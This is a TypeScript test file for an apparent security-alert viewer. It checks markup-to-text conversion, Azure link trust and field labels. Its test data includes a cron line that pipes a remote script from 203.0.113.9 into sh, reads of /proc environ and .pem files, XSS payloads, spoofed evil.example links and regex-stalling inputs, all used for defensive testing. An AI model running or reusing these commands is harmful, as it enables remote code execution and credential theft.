import { plainLines } from "../../../Client/Core/plainText";
import { trustedLink } from "../../../Client/Core/trustedLink";
import { labelOf } from "../../../Client/Core/label";

test.each<[string, string[]]>([
  ["Escalate the alert.", ["Escalate the alert."]],
  ["One<br>two<BR/>three", ["One", "two", "three"]],
  ["<p>One</p><p>Two</p>", ["One", "Two"]],
  ["<ul><li>One</li><li>Two</li></ul>", ["One", "Two"]],
  ["One\r\n\r\n  Two  ", ["One", "Two"]],
  ["See <a href='https://example.com/x'>the <b>guide</b></a>.", ["See the guide (https://example.com/x)."]],
  ["See [the guide](https://example.com/x).", ["See the guide (https://example.com/x)."]],
  ["**Isolate** the pod.", ["Isolate the pod."]],
  ["1. **Check logs**: then go on<br>**Do Not** wait", ["1. Check logs: then go on", "Do Not wait"]],
  ["Run kubectl delete pod <pod-name> -n <namespace>", ["Run kubectl delete pod <pod-name> -n <namespace>"]],
  ["a &lt; b &amp;&amp; c &gt; d &#39;e&#39;", ["a < b && c > d 'e'"]],
  ["&amp;lt;script&amp;gt;", ["&lt;script&gt;"]],
  ["", []],
])("%j becomes %j", (markup, lines) => {
  expect(plainLines(markup)).toEqual(lines);
});

/** What an alert says is evidence: a command line, a path or a pattern stays as the service gave it. */
test.each([
  "Run from /opt/app/__pycache__/x",
  "Read /proc/**/environ and **/*.pem",
  "python -c 'import __main__; print(__name__)'",
  "__init__.py wrote __all__",
  "The file __pod__ of snake__case__name",
  "print(2 ** 3 ** 4)",
  "find / -name **log** -o -name **Key**",
  "**/node_modules/**",
  "* * * * * curl -s http://203.0.113.9/x.sh | sh",
  "cat <b >out",
  "mount <p> on <i>",
  "sed -e s/<br>/x/g page",
  `echo "<b>owned</b><br>" > index.html`,
  "printf '<p>hi</p>' | tee page",
  "wrote `<ul><li>x</li></ul>`",
  "<div onclick=x()>hi</div><script>alert(1)</script>",
  "<u>only opened, </b> only closed",
  "curl http://203.0.113.9/?a=1&amp;b=2",
  "[ -f x ] && echo a &lt; b",
  "x=&quot;1&quot;",
  "arr[0](https://example.com)",
  "cat <<EOF && a << 2",
  "C:\\__tmp__\\*\\**\\x",
  "`__a__` ~~b~~ _c_ *d* # e",
])("%j is shown with every character", (evidence) => {
  expect(plainLines(evidence)).toEqual([evidence]);
});

test.each<[string, string[]]>([
  [
    "<p>The process &quot;/proc/**/environ&quot; &amp; __x__</p><p>See &lt;pod&gt;</p>",
    ['The process "/proc/**/environ" & __x__', "See <pod>"],
  ],
  [`Seen<br>sh -c "echo '<b>x</b>'"`, ["Seen", `sh -c "echo '<b>x</b>'"`]],
  ["<b>Pod</b> <b>web</b>: rm -rf <i", ["Pod web: rm -rf <i"]],
  ["<a href='https://example.com/?a=1&amp;b=2'>guide</a>", ["guide (https://example.com/?a=1&b=2)"]],
  ['<a target="_blank" href="https://example.com">https://example.com</a>', ["https://example.com"]],
])("marks and evidence in one text: %j", (markup, lines) => {
  expect(plainLines(markup)).toEqual(lines);
});

test.each([
  ["https://portal.azure.com/#blade/x", true],
  ["https://learn.microsoft.com/azure", true],
  ["http://portal.azure.com/", false],
  ["https://portal.azure.com.evil.example/", false],
  ["https://evil.example/#portal.azure.com", false],
  ["https://someone.cloudapp.azure.com/", false],
  ["https://portal.azure.com@evil.example/", false],
  ["https://evil@portal.azure.com/", false],
  ["javascript:alert(1)", false],
  ["", false],
  [undefined, false],
])("%p may be offered as a link: %p", (href, trusted) => {
  expect(trustedLink(href) !== undefined).toBe(trusted);
});

test.each([
  ["parentProcess", "Parent process"],
  ["Suspicious Command Line", "Suspicious Command Line"],
  ["EffectiveAzureResourceId", "Effective azure resource id"],
  ["aadUserId", "Aad user id"],
  ["IPAddress", "IP address"],
  ["host_name", "Host name"],
])("the label of %p is %p", (name, label) => {
  expect(labelOf(name)).toBe(label);
});

/** Alerts carry text that an attacker can influence. Each of these would take a backtracking expression minutes. */
test.each([
  "<a href='",
  "<a ",
  "<a href=''>",
  "<b ",
  "[x",
  "**a",
  "__a **b ",
  "&amp",
  "<br",
  " 'a",
  ' "a',
  "`",
  "<b>",
  "/&",
])("a text of nothing but %s is read at once", (part) => {
  expect(plainLines(part.repeat(20_000)).length).toBeLessThanOrEqual(1);
});

test("links inside of links are read at once", () => {
  const nested = "<a href='x'>y".repeat(20_000) + "</a>".repeat(20_000);
  expect(plainLines(nested)).toHaveLength(1);
});
